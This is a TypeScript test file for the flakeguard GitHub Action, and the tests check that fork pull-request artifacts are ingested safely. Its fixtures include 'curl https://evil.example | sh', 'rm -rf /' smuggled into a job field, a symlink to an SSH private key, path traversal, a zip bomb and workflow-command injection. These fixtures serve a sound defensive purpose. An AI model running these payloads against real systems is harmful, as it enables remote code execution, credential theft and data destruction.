/**
 * The README's fork workflows played against the bundled action: a pull request from a fork (the test workflow,
 * read-only token) leaves its results as an artifact; the `workflow_run` workflow (write token) ingests them
 * through GitHub's REST API (the GitHub fake) while trusting nothing in them but report data.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { chmod, readdir, stat, writeFile } from 'node:fs/promises';
import { basename, join } from 'node:path';
import { World, junitXml, type ActionRun, setOverride } from '../support/action.ts';
import { startGitHubFake, type FakeGitHub } from '../support/github-fake/index.ts';
import { startArtifactFake, type FakeArtifactService } from '../support/artifact-fake/index.ts';
import { flakeguardStep, matrixCombinations, readmeWorkflow, stepInputs, toJSON } from '../support/artifact-fake/workflows.ts';
import { zipBytes } from '../support/artifact-fake/zip-writer.ts';
import { MANIFEST_FILE, RESULTS_FILE, renderManifest } from '../../src/artifacts/bundle.ts';
import { renderResultsFile } from '../../src/store/results-file.ts';
import { parsedTest } from '../support/builders.ts';
import { workflowCommands } from '../report/dist-support.ts';
import { expectOutcome } from '../support/expect.ts';

const TOKEN = 'ghs_forksFakeT0ken_0123456789abcdef';
const FORK_HEAD = '5'.repeat(40);
let world: World;
let gh: FakeGitHub;
let artifacts: FakeArtifactService;

beforeEach(async () => {
  world = await World.create();
  gh = await startGitHubFake({ owner: 'octo', repo: 'project', token: TOKEN });
  artifacts = await startArtifactFake({ github: gh });
});
afterEach(async () => {
  await artifacts.close();
  await gh.close();
  await world.dispose();
});

function expectClean(): void {
  expect(gh.violations()).toEqual([]);
  expect(artifacts.violations()).toEqual([]);
}

const forkPullRequest = { repository: { default_branch: 'main', full_name: 'octo/project' }, pull_request: { number: 7, head: { repo: { full_name: 'mallory/project' } } } };

/** A job of the fork's pull-request run: read-only token (the fork's workflow gets no write token), artifact service. */
function forkJob(inputs: Record<string, string>, runId: number, job = 'test', attempt = 1): Promise<ActionRun> {
  return world.run({
    runId,
    runAttempt: attempt,
    job,
    eventName: 'pull_request',
    ref: 'refs/pull/7/merge',
    event: forkPullRequest,
    inputs: { token: TOKEN, ...inputs },
    env: { GITHUB_API_URL: gh.url, ...artifacts.env({ runId, job }) },
  });
}

function workflowRunEvent(runId: number, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    action: 'completed',
    repository: { default_branch: 'main', full_name: 'octo/project' },
    workflow_run: {
      id: runId,
      name: 'Tests',
      run_attempt: 1,
      event: 'pull_request',
      head_sha: FORK_HEAD,
      head_branch: 'main',
      head_repository: { full_name: 'mallory/project' },
      repository: { full_name: 'octo/project' },
      pull_requests: [],
      conclusion: 'success',
      run_started_at: new Date(Date.now() - 600_000).toISOString(),
      updated_at: new Date().toISOString(),
      ...extra,
    },
  };
}

/** The README's ingest workflow, started by workflow_run after run `runId` finished (it has the write token). */
async function ingest(runId: number, o: { ownRunId?: number; event?: Record<string, unknown>; eventName?: string; attempt?: number; inputs?: Record<string, string> } = {}): Promise<ActionRun> {
  const wf = await readmeWorkflow('Pull requests from forks', '.github/workflows/flakeguard-ingest.yml');
  expect(wf.on).toEqual({ workflow_run: { workflows: ['Tests'], types: ['completed'] } });
  expect(wf.permissions).toEqual({ contents: 'write', actions: 'read', 'pull-requests': 'write' });
  const job = wf.jobs.ingest!;
  expect(job.steps.some((s) => s.uses?.startsWith('actions/checkout'))).toBe(false);
  const own = o.ownRunId ?? runId + 10_000;
  return world.run({
    runId: own,
    runAttempt: o.attempt ?? 1,
    job: 'ingest',
    eventName: o.eventName ?? 'workflow_run',
    event: o.event ?? workflowRunEvent(runId),
    inputs: { token: TOKEN, ...stepInputs(flakeguardStep(job), {}), ...o.inputs },
    env: { GITHUB_API_URL: gh.url, ...artifacts.env({ runId: own, job: 'ingest' }) },
  });
}

async function quickStartInputs(outcome: string): Promise<Record<string, string>> {
  return stepInputs(flakeguardStep((await readmeWorkflow('Quick start')).jobs.test!), { 'steps.tests.outcome': outcome });
}

async function dataJson(path: string): Promise<Record<string, unknown>> {
  return JSON.parse((await world.dataFiles()).get(path)!) as Record<string, unknown>;
}

async function baseline(): Promise<void> {
  await world.writeReport('reports/junit.xml', junitXml([{ name: 'a' }, { name: 'b' }]));
  expectOutcome(await world.run({ runId: 1, inputs: { token: TOKEN, ...(await quickStartInputs('success')) }, env: { GITHUB_API_URL: gh.url } }), 'success');
}

function bundleZip(tests = [parsedTest('pkg.Suite::a', 'P')], run: Record<string, unknown> = {}): Buffer {
  const results = renderResultsFile(
    {
      key: '500/test/aaaaaaaa',
      runId: '500',
      runAttempt: 1,
      job: 'test',
      workflow: 'Tests',
      sha: FORK_HEAD,
      ref: 'refs/pull/7/merge',
      onDefaultBranch: false,
      event: 'pull_request',
      time: Date.now(),
      ...run,
    },
    tests,
  );
  const manifest = renderManifest({ jobKey: '', testOutcome: 'success', filesMatched: 1, filesRead: 1, problems: [], reportPatterns: ['reports/**/*.xml'] });
  return zipBytes([
    { name: MANIFEST_FILE, content: manifest },
    { name: RESULTS_FILE, content: results },
  ]);
}

describe('README: pull requests from forks', () => {
  it('the fork run decides read-only and uploads its results; the workflow_run job saves them under the trusted facts', async () => {
    await baseline();
    await world.editDataFile('stats/00.json', (t) => setOverride(t, 'pkg.Suite::b', '"quarantine"'));
    const commitsBefore = await world.dataCommits();

    // The pull request: `a` fails then passes on a retry, `b` (quarantined by hand) fails.
    await world.writeReport(
      'reports/junit.xml',
      junitXml([
        { name: 'a', attempts: 'FP' },
        { name: 'b', attempts: 'F' },
      ]),
    );
    const pr = await forkJob(await quickStartInputs('failure'), 500);
    expectOutcome(pr, 'success');
    expect(pr.outputs['quarantined-failures']).toBe('1');
    expect(pr.outputs['data-commit']).toBe('');
    expect(pr.outputs['results-artifact']).toMatch(/^flakeguard-test-[0-9a-f]{10}-a1$/);
    expect(await world.dataCommits()).toEqual(commitsBefore);
    expect(gh.state.checkRuns).toEqual([]); // a read-only token cannot create check runs
    expect(gh.state.artifacts.map((a) => [a.name, a.run_id])).toEqual([[pr.outputs['results-artifact'], 500]]);

    const run = await ingest(500);
    expectOutcome(run, 'success');
    expect(JSON.parse(run.outputs['ingested-shards']!)).toEqual(['test']);
    expect(run.outputs['data-commit']).toMatch(/^[0-9a-f]{40}$/);
    const rows = Object.values((await dataJson('runs.json')).runs as Record<string, unknown[]>);
    const forkRow = rows.find((r) => String(r[0]).startsWith('500/'))!;
    // The commit and the link are the workflow_run's; a fork's run is never on the default branch.
    // … and it is recorded as untrusted (the 8th field, docs/forks.md), in no cell, with its figures and the branch it
    // came from, the fork's own label (the 10th, ADR 0460).
    expect(forkRow).toEqual([
      '500/untrusted',
      FORK_HEAD,
      expect.any(Number),
      0,
      1,
      'https://github.com/octo/project/actions/runs/500/attempts/1',
      [],
      1,
      null,
      expect.objectContaining({ b: 'mallory/project:main' }),
    ]);
    const history = (await dataJson('history/00.json')).tests as Record<string, { o: string }>;
    expect(history['pkg.Suite::a']!.o).toBe('P(FP)');
    expect(history['pkg.Suite::b']!.o).toBe('PF');
    expect(run.summary).toContain('flakeguard: ingested workflow run');
    expect(run.summary).toContain('mallory/project');

    // The ingest workflow re-run (or a second trigger) counts the run once.
    const before = await world.dataFiles();
    const again = await ingest(500, { attempt: 2 });
    expectOutcome(again, 'success');
    const after = await world.dataFiles();
    for (const path of ['runs.json', 'history/00.json', 'flakeguard.json']) expect(after.get(path), path).toBe(before.get(path));
    expectClean();
  });

  it('trusts nothing in the artifact but the report data: not its commit, branch, run, job or test ids', async () => {
    await baseline();
    const mainSha = await world.headSha();
    // The fork's own workflow wrote this: it claims to be run 1 on main, and files `a`'s failure under `b`.
    const lie = bundleZip([{ ...parsedTest('pkg.Suite::b', 'F'), classname: 'pkg.Suite', name: 'a', suite: 'suite' }], {
      key: '1/test/00000000',
      runId: '1',
      job: 'test; rm -rf /',
      sha: mainSha,
      ref: 'refs/heads/main',
      onDefaultBranch: true,
      event: 'push',
      runAttempt: 99,
      time: Date.parse('2030-01-01'),
      url: 'https://evil.example/phish',
    });
    gh.seed.artifact({ name: 'flakeguard-test-0123456789-a1', run_id: 501, zip: lie });
    const run = await ingest(501);
    expectOutcome(run, 'success');
    const rows = (await dataJson('runs.json')).runs as Record<string, unknown[]>;
    expect(
      Object.values(rows)
        .map((r) => [String(r[0]).split('/')[0], r[1], r[3]])
        .sort(),
    ).toEqual([
      ['1', mainSha, 1],
      ['501', FORK_HEAD, 0],
    ]);
    const forkRow = Object.values(rows).find((r) => String(r[0]).startsWith('501/'))!;
    // One untrusted run per attempt of the workflow run, its key from the event's run id alone (docs/forks.md).
    expect(forkRow[0]).toBe('501/untrusted');
    expect(forkRow[2] as number).toBeLessThanOrEqual(Date.now());
    expect(forkRow[5]).toBe('https://github.com/octo/project/actions/runs/501/attempts/1');
    const history = (await dataJson('history/00.json')).tests as Record<string, { o: string }>;
    expect(history['pkg.Suite::a']!.o).toBe('PF');
    expect(history['pkg.Suite::b']!.o).not.toContain('F');
    expectClean();
  });

  it('refuses hostile artifacts (path traversal, zip bomb, oversized, not a zip, a symbolic link, workflow commands in names), writes nothing from them, ingests the rest', async () => {
    await baseline();
    const bomb = zipBytes([
      { name: RESULTS_FILE, content: Buffer.alloc(64 * 1024 * 1024, 0x20), declaredSize: 1000 },
      { name: MANIFEST_FILE, content: '{}' },
    ]);
    const hostile: Array<[string, Buffer, number?]> = [
      [
        'flakeguard-traversal',
        zipBytes([
          { name: '../../../../evil-traversal.json', content: '{}' },
          { name: RESULTS_FILE, content: '{}' },
        ]),
      ],
      ['flakeguard-bomb', bomb],
      ['flakeguard-huge', bundleZip(), 2 * 1024 * 1024 * 1024],
      ['flakeguard-garbage', Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')],
      ['flakeguard-link', zipBytes([{ name: 'evil-link', content: '/home/runner/.ssh/id_rsa', unixMode: 0o120777 }])],
      ['flakeguard-commands', zipBytes([{ name: '../::warning::pwned ##[error]evil/x', content: '{}' }])],
    ];
    for (const [name, zip, size] of hostile) gh.seed.artifact({ name, run_id: 502, zip, ...(size ? { size_in_bytes: size } : {}) });
    gh.seed.artifact({ name: 'flakeguard-good', run_id: 502, zip: bundleZip([parsedTest('pkg.Suite::a', 'FP')]) });
    gh.seed.artifact({ name: 'not-ours', run_id: 502, zip: Buffer.from('ignored') });

    const run = await ingest(502);
    expectOutcome(run, 'failure');
    const errors = run.stdout.split('\n').filter((l) => l.startsWith('::error title=flakeguard artifact refused::'));
    expect(errors).toHaveLength(6);
    expect(run.stdout).toMatch(/flakeguard-traversal was refused: unsafe archive: entry "..\/..\/..\/..\/evil-traversal.json" has a '..' segment \(path traversal\)/);
    expect(run.stdout).toMatch(/flakeguard-bomb was refused: unsafe archive: entry "flakeguard-results.json" inflates to more than its declared 1000 bytes/);
    expect(run.stdout).toMatch(/flakeguard-huge was refused: the artifact is 2147483648 bytes; the limit is 67108864/);
    expect(run.stdout).toMatch(/flakeguard-garbage was refused: unsafe archive: not a ZIP archive/);
    expect(run.stdout).toMatch(/flakeguard-link was refused: unsafe archive: entry "evil-link" is a symbolic link/);
    expect(run.stdout).toContain('6 artifacts were refused (see the errors above); the others were ingested.');
    // Names from the archive reach the log only as data: no command injected, the legacy syntax defused.
    expect(workflowCommands(run.stdout).problems).toEqual([]);
    expect(workflowCommands(run.stdout).commands.filter((c) => c.name === 'warning')).toEqual([]);
    expect(run.stdout).toContain("has a '..' segment (path traversal)");
    // The oversized one was never downloaded; the others were, as single files, and never extracted.
    const huge = gh.state.artifacts.find((a) => a.name === 'flakeguard-huge')!;
    expect(gh.requests.some((r) => r.path.endsWith(`/artifacts/${huge.id}/zip`))).toBe(false);
    const everywhere = await listAll(world.root);
    expect(everywhere.filter((p) => /evil/.test(basename(p)))).toEqual([]);
    // The good one is saved.
    expect(((await dataJson('history/00.json')).tests as Record<string, { o: string }>)['pkg.Suite::a']!.o).toBe('P(FP)');
    expectClean();
  });

  it('the aggregate pattern in a fork: shards upload, the aggregating job decides read-only, the workflow_run job ingests every shard', async () => {
    await baseline();
    const wf = await readmeWorkflow('The aggregate pattern');
    const shardStep = flakeguardStep(wf.jobs.test!);
    for (const matrix of matrixCombinations(wf.jobs.test!.strategy!.matrix!)) {
      const n = Number(matrix.shard);
      await world.writeReport(`reports-${n}/junit.xml`, junitXml([{ classname: `suite${n}`, name: 'x', attempts: n === 2 ? 'FP' : 'P' }]));
      const inputs = stepInputs(shardStep, { 'steps.tests.outcome': 'success', 'toJSON(matrix)': toJSON(matrix), 'matrix.shard': String(n) });
      expectOutcome(await forkJob({ ...inputs, reports: `reports-${n}/**/*.xml` }, 503), 'success');
    }
    const commitsBefore = await world.dataCommits();
    const decide = await forkJob(stepInputs(flakeguardStep(wf.jobs.flakeguard!), {}), 503, 'flakeguard');
    expectOutcome(decide, 'success');
    expect(decide.stdout).toContain('Read-only run');
    expect(await world.dataCommits()).toEqual(commitsBefore);

    const run = await ingest(503);
    expectOutcome(run, 'success');
    expect(JSON.parse(run.outputs['ingested-shards']!)).toEqual(['test (shard=1)', 'test (shard=2)', 'test (shard=3)']);
    // Untrusted results never add a test no trusted run has recorded (docs/forks.md): these are new.
    const history = (await dataJson('history/00.json')).tests as Record<string, { o: string }>;
    expect(history['suite2::x']).toBeUndefined();
    expect(run.stdout).toMatch(/3 tests of the untrusted results were left out: no trusted run has recorded them/);
    expectClean();
  });

  it('a pull request from a deleted fork (`head.repo: null`) is a fork: read-only, no push attempted, green when its tests are green', async () => {
    await baseline();
    const commitsBefore = await world.dataCommits();
    // The remote refuses every push, as GitHub refuses the read-only token of a fork's run; the hook says whether one came.
    const marker = join(world.root, 'push-attempted');
    await writeFile(join(world.remote, 'hooks', 'pre-receive'), `#!/bin/sh\ntouch '${marker}'\necho 'refused: read-only token' >&2\nexit 1\n`);
    await chmod(join(world.remote, 'hooks', 'pre-receive'), 0o755);
    await world.writeReport('reports/junit.xml', junitXml([{ name: 'a' }, { name: 'b' }]));
    const deletedFork = { ...forkPullRequest, pull_request: { number: 7, head: { repo: null, ref: 'feature', sha: FORK_HEAD } } };
    const pr = await world.run({
      runId: 510,
      eventName: 'pull_request',
      ref: 'refs/pull/7/merge',
      event: deletedFork,
      inputs: { token: TOKEN, ...(await quickStartInputs('success')) },
      env: { GITHUB_API_URL: gh.url, ...artifacts.env({ runId: 510, job: 'test' }) },
    });
    // Before the fix: taken as a pull request from this repository, it pushed, was refused, and failed (exit 1).
    expectOutcome(pr, 'success');
    expect(
      await stat(marker).then(
        () => true,
        () => false,
      ),
    ).toBe(false);
    expect(pr.outputs['data-commit']).toBe('');
    expect(pr.outputs['results-artifact']).toMatch(/^flakeguard-test-[0-9a-f]{10}-a1$/);
    expect(await world.dataCommits()).toEqual(commitsBefore);
    expect(gh.state.checkRuns).toEqual([]);
    expectClean();
  });

  it('has nothing to do after a run that left no results, and refuses to run from any other event', async () => {
    const none = await ingest(504);
    expectOutcome(none, 'success');
    expect(none.stdout).toMatch(/^::notice::Run 504 left no flakeguard results; nothing to ingest\./m);

    const wrong = await ingest(504, { eventName: 'pull_request_target', event: forkPullRequest });
    expectOutcome(wrong, 'failure');
    expect(wrong.stdout).toMatch(/^::error::mode: ingest-workflow-run runs in a workflow triggered by 'workflow_run' \(this one was triggered by 'pull_request_target'\)/m);
    const foreign = await ingest(505, { event: workflowRunEvent(505, { repository: { full_name: 'other/repo' } }) });
    expectOutcome(foreign, 'failure');
    expect(foreign.stdout).toContain('The workflow run belongs to other/repo, not to octo/project.');
    expectClean();
  });
});

async function listAll(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    out.push(path);
    if (entry.isDirectory() && !entry.isSymbolicLink()) out.push(...(await listAll(path)));
  }
  return out;
}

describe("the comment on a fork's pull request, from the workflow_run workflow", () => {
  const comments = (issue: number) => gh.state.comments.filter((c) => c.issue_number === issue);
  const ops = (id: string) => gh.requests.filter((r) => r.operationId === id).length;

  it('finds the pull request by the fork owner, branch and head commit, and writes one section that says the results are the fork’s', async () => {
    await baseline();
    await world.editDataFile('stats/00.json', (t) => setOverride(t, 'pkg.Suite::b', '"quarantine"'));
    // Decoys: another owner's branch of the same name at the same commit, and the fork's pull request at another commit.
    const decoy = gh.seed.pullRequest({ head_sha: FORK_HEAD, head_ref: 'main', head_repository: 'eve/project', title: 'decoy' });
    const stale = gh.seed.pullRequest({ head_sha: '6'.repeat(40), head_ref: 'main', head_repository: 'mallory/project', title: 'stale' });
    const pr = gh.seed.pullRequest({ head_sha: FORK_HEAD, head_ref: 'main', head_repository: 'mallory/project', title: 'From the fork' });

    await world.writeReport(
      'reports/junit.xml',
      junitXml([
        { name: 'a', attempts: 'FP' },
        { name: 'b', attempts: 'F', message: 'b broke' },
        { name: '@octo/security-team closes #1 <img src=x>', attempts: 'F', message: 'cc @alice' },
      ]),
    );
    const fork = await forkJob(await quickStartInputs('failure'), 600);
    expectOutcome(fork, 'failure');
    // The fork's own run cannot comment, and says where the comment comes from.
    expect(ops('issues/create-comment')).toBe(0);

    const run = await ingest(600, {
      event: workflowRunEvent(600, { head_repository: { full_name: 'mallory/project', owner: { login: 'mallory' } } }),
      inputs: { 'dashboard-url': 'https://octo.github.io/project/' },
    });
    expectOutcome(run, 'success');
    expectClean();
    const list = gh.requests.find((r) => r.operationId === 'pulls/list')!;
    expect(list.query).toMatchObject({ head: 'mallory:main', state: 'open' });
    expect(comments(decoy.number)).toEqual([]);
    expect(comments(stale.number)).toEqual([]);
    expect(comments(pr.number)).toHaveLength(1);
    const body = comments(pr.number)[0]!.body;
    expect(body.startsWith('<!-- flakeguard:pr-comment -->\n')).toBe(true);
    expect(body).toMatch(/### ❌ Tests, as the fork's run reported it: Fix 1 failing test&#58; .*\n/);
    expect(body).toContain('These results come from [the run](https://github.com/octo/project/actions/runs/600) of the fork mallory/project');
    expect(body).toContain('untrusted: recorded as evidence that decides nothing alone (docs/forks.md)');
    expect(body).toContain("**Why the fork's run fails:**");
    expect(body).not.toContain('Why the job fails');
    expect(body).toContain('#### ⚠️ Forgiven: quarantined as flaky (1)');
    expect(body).toContain('- [**pkg.Suite&#58;&#58;b**](https://octo.github.io/project/#/test/pkg.Suite%3A%3Ab): b broke.');
    expect(body).toContain('#### 🔁 Failed, then passed on this commit (1)');
    // The fork's test names are text: no mention, no issue link, no HTML.
    const outside = body
      .replace(/<!-- flakeguard:[a-z-]+(=[0-9a-f]{16})? -->/g, '')
      .replace(/<sub>[A-Za-z ,.]+<\/sub>/, '')
      .replace(/`[0-9a-f]{7}`/g, '')
      .replace(/^> /m, '');
    expect(outside).not.toMatch(/[<>]|@[a-z]|(^|[^&])#[0-9]/im);
    expect(body).toContain('&#64;&#8203;octo/security&#45;team closes &#35;&#8203;1 &lt;img src&#61;x&gt;');

    // The same run ingested again (a re-run of the ingest workflow): the section is as it was, no new comment.
    const again = await ingest(600, {
      attempt: 2,
      event: workflowRunEvent(600, { head_repository: { full_name: 'mallory/project', owner: { login: 'mallory' } } }),
      inputs: { 'dashboard-url': 'https://octo.github.io/project/' },
    });
    expectOutcome(again, 'success');
    expect(comments(pr.number)).toHaveLength(1);
    expect(ops('issues/update-comment')).toBe(0);

    // pr-comment: off on the ingest workflow: no pull request is looked up.
    const lists = ops('pulls/list');
    expectOutcome(await ingest(600, { attempt: 3, inputs: { 'pr-comment': 'off' } }), 'success');
    expect(ops('pulls/list')).toBe(lists);
    expectClean();
  });

  it('a run with no open pull request of the fork at its commit: an info line, no comment, the ingestion succeeds', async () => {
    await baseline();
    gh.seed.pullRequest({ head_sha: '6'.repeat(40), head_ref: 'main', head_repository: 'mallory/project' });
    await world.writeReport('reports/junit.xml', junitXml([{ name: 'a', attempts: 'F' }]));
    expectOutcome(await forkJob(await quickStartInputs('failure'), 700), 'failure');
    const run = await ingest(700);
    expectOutcome(run, 'success');
    expect(run.stdout).toContain(`No open pull request from mallory/project:main at ${FORK_HEAD.slice(0, 12)}: no comment.`);
    expect(ops('issues/create-comment')).toBe(0);
    expectClean();
  });
});
